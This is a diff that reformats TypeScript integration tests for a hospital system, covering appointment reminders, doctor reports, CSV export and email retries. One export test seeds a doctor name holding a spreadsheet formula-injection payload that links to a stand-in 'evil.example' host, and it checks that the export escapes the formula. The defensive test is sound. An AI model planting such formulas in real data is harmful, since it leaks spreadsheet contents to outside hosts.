@@ -18,8 +18,16 @@ import { startWorkers } from "./worker";
 const PW = "Test-pass-2026";
 const NOW = new Date("2026-11-22T08:00:00Z");
 const hours = (h: number) => new Date(NOW.getTime() + h * 3600_000);
-const ctxOf = (u: { id: string; role: string; name: string; email: string }): Ctx => ({ actor: u as Ctx["actor"], ip: "127.0.0.1" });
-const invitation = { name: "Rose", role: "DOCTOR" as const, url: "http://localhost:3000/set-password/abc", expiresInHours: 72 };
+const ctxOf = (u: { id: string; role: string; name: string; email: string }): Ctx => ({
+  actor: u as Ctx["actor"],
+  ip: "127.0.0.1",
+});
+const invitation = {
+  name: "Rose",
+  role: "DOCTOR" as const,
+  url: "http://localhost:3000/set-password/abc",
+  expiresInHours: 72,
+};
 
 let smtp: Awaited<ReturnType<typeof startCaptureSmtp>>;
 let mail: MailConfig;
@@ -41,10 +49,32 @@ async function world() {
   const records = await seedUser(db(), { email: "r@h.org", name: "Records", role: "RECORDS_OFFICER", password: PW });
   const pu = await seedUser(db(), { email: "amara@h.org", name: "Amara Bello", role: "PATIENT", password: PW });
   const other = await seedUser(db(), { email: "other@h.org", name: "Other Patient", role: "PATIENT", password: PW });
-  const patient = await seedPatient(db(), { firstName: "Amara", lastName: "Bello", dateOfBirth: "1990-01-01", sex: "female", email: "amara@h.org", userId: pu.id });
-  await seedPatient(db(), { firstName: "Otto", lastName: "Other", dateOfBirth: "1980-01-01", sex: "male", userId: other.id });
+  const patient = await seedPatient(db(), {
+    firstName: "Amara",
+    lastName: "Bello",
+    dateOfBirth: "1990-01-01",
+    sex: "female",
+    email: "amara@h.org",
+    userId: pu.id,
+  });
+  await seedPatient(db(), {
+    firstName: "Otto",
+    lastName: "Other",
+    dateOfBirth: "1980-01-01",
+    sex: "male",
+    userId: other.id,
+  });
   const appt = (startsAt: Date, status: "BOOKED" | "CANCELLED" = "BOOKED", reminderSentAt: Date | null = null) =>
-    db().appointment.create({ data: { patientId: patient.id, doctorId: doctor.id, startsAt, endsAt: new Date(startsAt.getTime() + 30 * 60_000), status, reminderSentAt } });
+    db().appointment.create({
+      data: {
+        patientId: patient.id,
+        doctorId: doctor.id,
+        startsAt,
+        endsAt: new Date(startsAt.getTime() + 30 * 60_000),
+        status,
+        reminderSentAt,
+      },
+    });
   return { doctor, nurse, records, pu, other, patient, appt };
 }
 
@@ -64,11 +94,14 @@ describe("appointment reminders", () => {
     expect((await sendDueReminders(db(), mail)).reminded).toEqual([]);
     const emails = await db().outboxEmail.findMany({ where: { to: "amara@h.org" } });
     expect(emails).toHaveLength(2);
-    expect(emails.every((e) => e.status === "SENT" && e.subject.startsWith("Reminder: your appointment tomorrow"))).toBe(true);
+    expect(
+      emails.every((e) => e.status === "SENT" && e.subject.startsWith("Reminder: your appointment tomorrow")),
+    ).toBe(true);
     expect(smtp.mails).toHaveLength(2);
     expect(smtp.mails[0].text).toContain("Dr Heart");
     expect(await db().notification.count({ where: { userId: w.pu.id, title: "Appointment tomorrow" } })).toBe(2);
-    for (const d of due) expect((await db().appointment.findUniqueOrThrow({ where: { id: d.id } })).reminderSentAt).toEqual(NOW);
+    for (const d of due)
+      expect((await db().appointment.findUniqueOrThrow({ where: { id: d.id } })).reminderSentAt).toEqual(NOW);
   });
 
   it("skips cancelled, already reminded, past and not-yet-due appointments", async () => {
@@ -93,14 +126,37 @@ describe("monthly doctor report", () => {
     // Billed in the doctor's name: 45.00 in October counts; a void invoice and November's do not.
     const invoice = (issuedAt: string, amount: number, status: "OPEN" | "VOID" = "OPEN") =>
       db().invoice.create({
-        data: { patientId: w.patient.id, currency: "USD", status, issuedAt: new Date(issuedAt), createdById: w.records.id, lines: { create: [{ kind: "CONSULTATION", description: "Consultation", quantity: 1, unitAmount: amount, amount, doctorId: w.doctor.id }] } },
+        data: {
+          patientId: w.patient.id,
+          currency: "USD",
+          status,
+          issuedAt: new Date(issuedAt),
+          createdById: w.records.id,
+          lines: {
+            create: [
+              {
+                kind: "CONSULTATION",
+                description: "Consultation",
+                quantity: 1,
+                unitAmount: amount,
+                amount,
+                doctorId: w.doctor.id,
+              },
+            ],
+          },
+        },
       });
     await invoice("2026-10-07T10:00:00Z", 4500);
     await invoice("2026-10-08T10:00:00Z", 9900, "VOID");
     await invoice("2026-11-02T10:00:00Z", 7000);
-    const [a, b] = await Promise.all([sendMonthlyReports(db(), undefined, mail), sendMonthlyReports(db(), undefined, mail)]);
+    const [a, b] = await Promise.all([
+      sendMonthlyReports(db(), undefined, mail),
+      sendMonthlyReports(db(), undefined, mail),
+    ]);
     expect(a.sent + b.sent).toBe(1);
-    expect(await db().doctorReport.findMany({ select: { doctorId: true, month: true } })).toEqual([{ doctorId: w.doctor.id, month: "2026-10" }]);
+    expect(await db().doctorReport.findMany({ select: { doctorId: true, month: true } })).toEqual([
+      { doctorId: w.doctor.id, month: "2026-10" },
+    ]);
     expect(smtp.mails).toHaveLength(1);
     expect(smtp.mails[0]).toMatchObject({ to: ["d@h.org"], subject: "Your activity in October 2026 — Test Hospital" });
     expect(smtp.mails[0].text).toContain("Appointments booked: 1");
@@ -147,15 +203,38 @@ describe("treatment-history export", () => {
   it("writes a file a spreadsheet opens safely: the byte order mark, °C as UTF-8, a formula someone typed as text", async () => {
     const w = await world();
     // A doctor's name as an admin typed it leads the summary of their appointments.
-    const evil = await seedUser(db(), { email: "evil@h.org", name: '=HYPERLINK("https://evil.example/?"&A1,"Open")', role: "DOCTOR", password: PW });
-    await db().appointment.create({ data: { patientId: w.patient.id, doctorId: evil.id, startsAt: new Date("2026-06-01T09:00:00Z"), endsAt: new Date("2026-06-01T09:30:00Z"), status: "COMPLETED" } });
-    await db().vitalSign.create({ data: { patientId: w.patient.id, recordedById: w.nurse.id, takenAt: new Date("2026-06-01T09:10:00Z"), temperatureC: 39.1, lockedAt: NOW } });
+    const evil = await seedUser(db(), {
+      email: "evil@h.org",
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+      role: "DOCTOR",
+      password: PW,
+    });
+    await db().appointment.create({
+      data: {
+        patientId: w.patient.id,
+        doctorId: evil.id,
+        startsAt: new Date("2026-06-01T09:00:00Z"),
+        endsAt: new Date("2026-06-01T09:30:00Z"),
+        status: "COMPLETED",
+      },
+    });
+    await db().vitalSign.create({
+      data: {
+        patientId: w.patient.id,
+        recordedById: w.nurse.id,
+        takenAt: new Date("2026-06-01T09:10:00Z"),
+        temperatureC: 39.1,
+        lockedAt: NOW,
+      },
+    });
     const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
     await runExport(db(), id);
     const bytes = Buffer.from((await downloadExport(db(), ctxOf(w.nurse), id)).content);
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
-    expect(lines.find((l) => l.includes(",Appointment,"))).toMatch(/^[^,]+,Appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/);
+    expect(lines.find((l) => l.includes(",Appointment,"))).toMatch(
+      /^[^,]+,Appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/,
+    );
     expect(lines.find((l) => l.includes(",Vitals,"))).toMatch(/,Vitals,T 39\.1 °C,,\w+$/);
   });
 
@@ -164,7 +243,9 @@ describe("treatment-history export", () => {
     const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
     await runExport(db(), id);
     expect(await getExport(db(), ctxOf(w.nurse), id)).toMatchObject({ status: "done", progress: 1 });
-    await expect(requestExport(db(), ctxOf(w.records), { kind: "treatment-history", patientId: w.patient.id })).rejects.toMatchObject({ code: "FORBIDDEN" });
+    await expect(
+      requestExport(db(), ctxOf(w.records), { kind: "treatment-history", patientId: w.patient.id }),
+    ).rejects.toMatchObject({ code: "FORBIDDEN" });
   });
 
   it("writes the CSV header, the kinds and the summaries in the requester's language", async () => {
@@ -179,7 +260,9 @@ describe("treatment-history export", () => {
     expect(header).toBe("Date et heure,Type,Résumé,Alerte,Référence");
     expect(rows.some((l) => l.includes(",Enregistrement,"))).toBe(true);
     await expect(requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history" })).rejects.toBeInstanceOf(AppError);
-    await expect(requestExport(db(), ctxOf(w.other), { kind: "treatment-history", patientId: w.patient.id })).rejects.toMatchObject({ code: "NOT_FOUND" });
+    await expect(
+      requestExport(db(), ctxOf(w.other), { kind: "treatment-history", patientId: w.patient.id }),
+    ).rejects.toMatchObject({ code: "NOT_FOUND" });
   });
 });
 
@@ -202,19 +285,38 @@ describe("email delivery through the queue", () => {
     boss = await startQueue(process.env.DATABASE_URL!, { work: true });
     await startWorkers(boss, db(), { schedules: false, pollingIntervalSeconds: 0.5, mail });
 
-    const ok = await queueEmail(db(), { to: "rose@example.org", locale: "en", template: "invitation", data: invitation }, mail);
+    const ok = await queueEmail(
+      db(),
+      { to: "rose@example.org", locale: "en", template: "invitation", data: invitation },
+      mail,
+    );
     const okJob = (await boss.send("email.send", { emailId: ok }))!;
     expect((await finished("email.send", okJob)).state).toBe("completed");
-    expect(await db().outboxEmail.findUniqueOrThrow({ where: { id: ok } })).toMatchObject({ status: "SENT", error: null });
+    expect(await db().outboxEmail.findUniqueOrThrow({ where: { id: ok } })).toMatchObject({
+      status: "SENT",
+      error: null,
+    });
     expect(smtp.mails.map((m) => m.to)).toEqual([["rose@example.org"]]);
 
     // A second queue whose worker reaches a closed port: every attempt fails, with growing delays.
     const failing = await startQueue(process.env.DATABASE_URL!, { work: true });
     try {
       await boss.offWork("email.send");
-      await startWorkers(failing, db(), { schedules: false, pollingIntervalSeconds: 0.5, mail: { ...mail, smtpUrl: "smtp://127.0.0.1:1" } });
-      const bad = await queueEmail(db(), { to: "nobody@example.org", locale: "en", template: "invitation", data: invitation }, mail);
-      const badJob = (await failing.send("email.send", { emailId: bad }, { retryLimit: 2, retryDelay: 1, retryBackoff: true }))!;
+      await startWorkers(failing, db(), {
+        schedules: false,
+        pollingIntervalSeconds: 0.5,
+        mail: { ...mail, smtpUrl: "smtp://127.0.0.1:1" },
+      });
+      const bad = await queueEmail(
+        db(),
+        { to: "nobody@example.org", locale: "en", template: "invitation", data: invitation },
+        mail,
+      );
+      const badJob = (await failing.send(
+        "email.send",
+        { emailId: bad },
+        { retryLimit: 2, retryDelay: 1, retryBackoff: true },
+      ))!;
       const job = await finished("email.send", badJob);
       expect(job).toMatchObject({ state: "failed", retryCount: 2, retryLimit: 2, retryBackoff: true });
       const row = await db().outboxEmail.findUniqueOrThrow({ where: { id: bad } });
